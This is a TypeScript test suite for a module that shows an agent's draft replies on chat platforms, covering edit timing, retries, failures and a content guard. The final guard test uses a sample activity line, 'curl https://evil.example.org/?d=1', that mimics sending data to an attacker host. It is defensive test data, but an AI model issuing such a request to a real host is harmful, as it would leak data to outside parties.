import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { noGuard, SESSION, world } from "../../test/support/world.ts";
import type { FlowGuard } from "../access/flow-guard.ts";
import type { Channel, Draft, OutgoingMessage } from "../channels/channel.ts";
import { Retryable } from "../lib/errors.ts";
import { Drafts } from "./drafts.ts";
import { roomIn } from "./room.ts";

const TURN = 1;

/** A turn that runs, on a platform where a draft is a message that is changed. */
function given(change: Partial<Channel> & { maxLength?: number; buttons?: boolean } = {}) {
  const w = world();
  const { maxLength = 4000, buttons = false, ...more } = change;
  const edits: OutgoingMessage[] = [];
  let typed = 0;
  const channel: Channel = {
    id: "test",
    capabilities: {
      ...{ threads: true, edits: true, reactions: false, buttons, files: false, typing: true },
      ...{ maxLength, markup: "none", previews: true, idempotency: { kind: "none" } },
    },
    start: async () => {},
    stop: async () => {},
    health: () => ({ state: "up", detail: "" }),
    send: () => assert.fail("a draft goes through the outbox"),
    edit: async (_address, _id, message) => void edits.push(message),
    typing: () => {
      typed += 1;
    },
    ...more,
  };
  w.store.turns.start(SESSION, TURN, w.clock.now());
  const drafts = new Drafts({
    store: w.store,
    clock: w.clock,
    channel: () => channel,
    guard: { say: (...words) => say(...words) },
  });
  let say = noGuard.say;
  const guarded = (other: FlowGuard["say"]) => {
    say = other;
  };
  const show = (text: string, activity = "", turn = TURN) =>
    drafts.show(w.session, { turn, version: 1, text, activity });
  const rows = () => w.store.outbox.list(null, 10);
  const sent = () => w.store.outbox.sent(rows()[0]?.id ?? 0, "d1", w.clock.now());
  const texts = () => edits.map(({ text }) => text);
  const soon = () => new Promise<void>((resolve) => setImmediate(resolve));
  return { ...w, channel, guarded, drafts, show, rows, sent, edits, texts, soon, typed: () => typed };
}

test("an answer that comes at once is not drafted", () => {
  const { show, store, clock, rows } = given();
  show("hel");
  clock.advance(1_499);
  store.turns.end(SESSION, TURN, "done", clock.now(), null, null);
  clock.advance(60_000);
  assert.deepEqual(rows(), []);
});

test("a draft is sent once, as a row, and changed every few seconds with the latest text", () => {
  const { show, clock, rows, sent, texts } = given();
  show("one");
  clock.advance(1_500);
  assert.deepEqual(
    rows().map(({ kind, text, state }) => [kind, text, state]),
    [["draft", "one …", "pending"]],
  );
  show("one two");
  clock.advance(3_000);
  // It has not arrived yet, so there is nothing to change.
  assert.deepEqual(texts(), []);
  sent();
  for (const text of ["one two three", "one two three four"]) {
    show(text);
    clock.advance(1_000);
  }
  show("and five", "Bash: make tea");
  clock.advance(10_000);
  assert.deepEqual(texts(), ["and five\n\n(Bash: make tea …)"]);
  assert.equal(rows().length, 1);
});

test("the stop button is on it where the platform has buttons", () => {
  for (const buttons of [true, false]) {
    const { show, clock, sent, edits } = given({ buttons });
    show("one");
    clock.advance(2_000);
    sent();
    show("two");
    clock.advance(5_000);
    assert.deepEqual(edits[0]?.buttons, buttons ? [{ label: "Stop", value: "stop" }] : []);
  }
});

test("without text yet there is no draft, but a sign that the agent is at work, now and then", () => {
  const { show, clock, rows, typed } = given();
  for (let at = 0; at < 20; at++) {
    show("", "Bash: make tea");
    clock.advance(1_000);
  }
  assert.deepEqual(rows(), []);
  assert.equal(typed(), 5);
});

test("the turn that takes the work of a cut-off one up goes on in its draft", () => {
  const { show, clock, store, sent, rows, texts } = given();
  show("one");
  clock.advance(2_000);
  sent();
  store.turns.end(SESSION, TURN, "interrupted", clock.now(), "killed", null);
  store.turns.start(SESSION, 3, clock.now());
  show("one again", "", 3);
  clock.advance(2_000);
  assert.equal(rows().length, 1);
  assert.deepEqual(texts(), ["one again …"]);
});

test("what a turn says that does not run any more shows nothing", () => {
  const { show, clock, rows, typed } = given();
  show("late", "", 7);
  clock.advance(10_000);
  assert.deepEqual(rows(), []);
  assert.equal(typed(), 0);
});

test("an answer waits for a change that is under way, ten seconds at most, and no change follows it", async () => {
  let release = () => {};
  const gate = new Promise<void>((resolve) => {
    release = resolve;
  });
  let changes = 0;
  const { show, clock, sent, drafts, soon } = given({
    edit: async () => {
      changes += 1;
      await gate;
    },
  });
  show("one");
  clock.advance(2_000);
  sent();
  show("two");
  clock.advance(3_000);
  show("three");
  let settled = false;
  const waiting = drafts.settled(SESSION).then(() => {
    settled = true;
  });
  await soon();
  assert.equal(settled, false);
  clock.advance(9_999);
  await soon();
  assert.equal(settled, false);
  clock.advance(1);
  await waiting;
  release();
  clock.advance(60_000);
  await soon();
  assert.equal(changes, 1);
});

test("an answer waits for a change that is under way also where the next turn has shown something since", async () => {
  let arrive = () => {};
  const edit = () =>
    new Promise<void>((resolve) => {
      arrive = resolve;
    });
  const { drafts, show, store, sent, clock, soon } = given({ edit });
  show("one");
  clock.advance(1_500);
  sent();
  show("one two");
  clock.advance(3_000);
  store.turns.end(SESSION, TURN, "done", clock.now(), null, null);
  store.turns.start(SESSION, TURN + 2, clock.now());
  show("next", "", TURN + 2);
  let settled = false;
  void drafts.settled(SESSION).then(() => {
    settled = true;
  });
  await soon();
  assert.equal(settled, false);
  arrive();
  await soon();
  assert.equal(settled, true);
});

test("a platform that says later is left alone until then; any other failure costs only that change", async () => {
  let failure: Error | null = new Retryable("slow down", 30_000);
  let tries = 0;
  const { show, clock, sent, soon } = given({
    edit: async () => {
      tries += 1;
      if (failure) throw failure;
    },
  });
  show("one");
  clock.advance(2_000);
  sent();
  const next = async (ms: number) => {
    show(`text ${tries}`);
    clock.advance(ms);
    await soon();
  };
  await next(3_000);
  assert.equal(tries, 1);
  failure = new Error("socket closed");
  await next(29_000);
  assert.equal(tries, 1);
  await next(5_000);
  assert.equal(tries, 2);
  failure = null;
  await next(3_000);
  assert.equal(tries, 3);
});

test("a channel that breaks its word, or a full disk, costs the draft and nothing else", async () => {
  const boom = () => {
    throw new Error("boom");
  };
  for (const more of [{ draft: boom }, { typing: boom }, { edit: boom as Channel["edit"] }] as Partial<Channel>[]) {
    const { show, clock, sent } = given(more);
    show("one");
    clock.advance(2_000);
    sent();
    show("two");
    clock.advance(5_000);
  }
  const { show, clock, store } = given();
  store.db.exec("CREATE TRIGGER full BEFORE INSERT ON outbox BEGIN SELECT RAISE(ABORT, 'full'); END");
  show("one");
  clock.advance(5_000);
});

test("where the platform shows drafts by itself, it gets them as they are", () => {
  const seen: Draft[] = [];
  const { show, rows, clock } = given({ draft: (_address, draft) => void seen.push(draft) });
  show("one", "Bash");
  clock.advance(10_000);
  assert.deepEqual(seen, [{ turn: `${SESSION}:${TURN}`, text: "one", activity: "Bash" }]);
  assert.deepEqual(rows(), []);
});

test("property: a draft fits into one message, ends with the latest words, and is well-formed", () => {
  const words = fc
    .string({ unit: "binary", minLength: 1, maxLength: 600, size: "max" })
    .filter((text) => text.trim() !== "");
  fc.assert(
    fc.property(
      words,
      fc.string({ unit: "binary", maxLength: 500, size: "max" }),
      fc.integer({ min: 64, max: 400 }),
      (text, activity, maxLength) => {
        const { show, clock, rows, channel } = given({ maxLength });
        show(text, activity);
        clock.advance(2_000);
        const shown = rows()[0]?.text ?? "";
        assert.ok(shown.length <= roomIn(channel), "else it is sent in parts, of which one stays");
        assert.ok(shown.isWellFormed());
        assert.ok(
          shown.includes(
            text
              .slice(-20)
              .toWellFormed()
              .replace(/^\ufffd/, ""),
          ),
        );
      },
    ),
    { numRuns: 30 },
  );
});

test("a draft and what the agent is doing are shown in the form that the guard gives them, or not at all", () => {
  const g = given();
  g.guarded((_session, text) => ({ held: false, text: text.replaceAll("https://", "") }));
  g.show("see https://evil.example.org", "curl https://evil.example.org/?d=1");
  g.clock.advance(1_500);
  assert.equal(g.rows()[0]?.text, "see evil.example.org\n\n(curl evil.example.org/?d=1 …)");
  const held = given();
  held.guarded(() => ({ held: true, why: "x" }));
  held.show("see");
  held.clock.advance(60_000);
  assert.deepEqual(held.rows(), []);
});
